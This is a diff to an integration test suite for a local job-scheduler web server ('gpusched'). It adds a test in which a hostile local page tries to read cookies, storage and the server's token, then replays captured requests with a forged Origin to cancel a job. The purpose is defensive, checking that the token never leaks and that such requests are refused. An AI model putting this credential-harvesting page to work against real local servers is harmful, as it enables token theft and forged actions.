@@ -143,6 +143,79 @@ def request(method, port, path, headers=None, host="127.0.0.1"):
     return response.status, body
 
 
+# Another local user's web server (a notebook, a TensorBoard) on another port of 127.0.0.1:
+# it records every request the browser sends it, and its page tries what such a page can to
+# obtain the token of the gpusched server named by ?target=, reporting what it could read.
+RECORDER = r"""
+import http.server, json, sys, threading
+page = sys.argv[1].encode()
+recorded, lock = [], threading.Lock()
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    def log_message(self, *args):
+        pass
+
+    def answer(self, kind, data):
+        self.send_response(200)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    def record(self):
+        length = int(self.headers.get("Content-Length") or 0)
+        with lock:
+            recorded.append({"method": self.command, "path": self.path,
+                             "headers": list(self.headers.items()),
+                             "body": self.rfile.read(length).decode("utf-8", "replace")})
+
+    def do_GET(self):
+        if self.path == "/recorded":
+            with lock:
+                return self.answer("application/json", json.dumps(recorded).encode())
+        self.record()
+        self.answer("text/html", page if self.path.startswith("/?") else b"")
+
+    def do_POST(self):
+        self.record()
+        self.answer("text/plain", b"")
+
+server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+print(server.server_address[1], flush=True)
+server.serve_forever()
+"""
+
+RECORDER_PAGE = """<!doctype html><title>another local server</title>
+<img src="/image.png"><iframe src="/frame"></iframe>
+<script>
+const target = new URLSearchParams(location.search).get("target");
+const seen = { cookie: document.cookie, referrer: document.referrer, href: location.href,
+  session: JSON.stringify(Object.entries(sessionStorage)), local: JSON.stringify(Object.entries(localStorage)) };
+const frame = document.createElement("iframe");
+frame.src = target + "/";
+document.body.append(frame);
+fetch(target + "/api/status", { mode: "no-cors", credentials: "include" }).catch(() => {});
+fetch("/fetched", { credentials: "include" })
+  .then(() => fetch("/report", { method: "POST", credentials: "include", body: JSON.stringify(seen) }))
+  .then(() => { document.title = "reported"; });
+</script>"""
+
+
+def second_account():
+    """The account another local user's server runs as (as the integration tests'), or None
+    where the tests do not run as root."""
+    if os.geteuid() != 0:
+        return None
+    for _ in range(20):
+        try:
+            return pwd.getpwnam("gpusched-test").pw_name
+        except KeyError:
+            subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin",
+                            "gpusched-test"], capture_output=True)
+            time.sleep(0.1)
+    return None
+
+
 class Browser:
     def __init__(self):
         options = Options()
@@ -461,6 +534,55 @@ class ServeTest(unittest.TestCase):
             return browser.driver.switch_to.alert.text is not None
         except NoAlertPresentException:
             return False
+
+    def test_another_local_users_server_receives_nothing_that_acts_here(self):
+        machine = self.machine
+        job = machine.submit(["sleep", "60"], "--no-start")
+        server = Server(machine, "--gpus", "0", "--allow-actions")
+        user = second_account()
+        command = [sys.executable, "-c", RECORDER, RECORDER_PAGE]
+        recorder = subprocess.Popen((["runuser", "-u", user, "--"] if user else []) + command,
+                                    stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                                    start_new_session=True)
+        machine.processes.append(recorder)
+        port = recorder.stdout.readline().strip()
+        self.assertTrue(port.isdigit(), recorder.stderr.read() if not port else port)
+        other = f"http://127.0.0.1:{port}"
+        # The user opens the printed address, as docs/serve.md says, and the page can act.
+        browser = self.open_browser()
+        browser.open(server.url_with_token)
+        self.assertTrue(browser.shows("#queued", "sleep 60"), browser.text("body"))
+        self.assertTrue(eventually(lambda: browser.driver.find_elements(
+            By.CSS_SELECTOR, f'#queued tr[data-job="{job}"] button')), "the page may act")
+        # Then goes to the other server's page: from this page (what a link would send), and
+        # typed in a tab of its own; each page reports what its script could read.
+        browser.driver.execute_script("window.location.href = arguments[0]", f"{other}/?target={server.base}")
+        self.assertTrue(eventually(lambda: browser.driver.title == "reported"), browser.driver.current_url)
+        browser.driver.switch_to.new_window("tab")
+        browser.open(f"{other}/?target={server.base}")
+        self.assertTrue(eventually(lambda: browser.driver.title == "reported"))
+        recorded = json.loads(urllib.request.urlopen(f"{other}/recorded", timeout=10).read())
+        self.assertEqual(len([seen for seen in recorded if seen["path"] == "/report"]), 2, recorded)
+        # Not in any header, cookie, address, Referer, nor anything its script could read.
+        self.assertNotIn(server.token, json.dumps(recorded))
+        arrivals = [seen for seen in recorded if seen["path"].startswith("/?target=")]
+        self.assertNotIn("referer", [name.lower() for name, _ in arrivals[0]["headers"]], arrivals[0])
+        # Everything it received, replayed at this server's action as a script would send it
+        # (with this page's Origin, which a script can forge), is refused.
+        for seen in recorded:
+            headers = {name: value for name, value in seen["headers"]
+                       if name.lower() not in ("host", "content-length", "connection", "origin", "referer")
+                       and not name.lower().startswith("sec-fetch-")}
+            headers.update({"Origin": server.base, "Sec-Fetch-Site": "same-origin"})
+            query = seen["path"].partition("?")[2]
+            status, body = server.post(f"/api/jobs/{job}/cancel" + ("?" + query if query else ""), headers)
+            self.assertEqual(status, 401, (seen, body))
+        listing = json.loads(machine.run(["queue", "--json"]))
+        self.assertEqual((listing["queued"], listing["cancelled"]), (1, 0), listing)
+        # The same request with the token acts: what was refused was the token's absence.
+        status, body = server.post(f"/api/jobs/{job}/cancel", {"Authorization": f"Bearer {server.token}",
+                                                              "Origin": server.base})
+        self.assertEqual(status, 200, body)
 
     def test_beyond_loopback_every_api_request_needs_the_token_and_on_loopback_other_hosts_are_refused(self):
         machine = self.machine
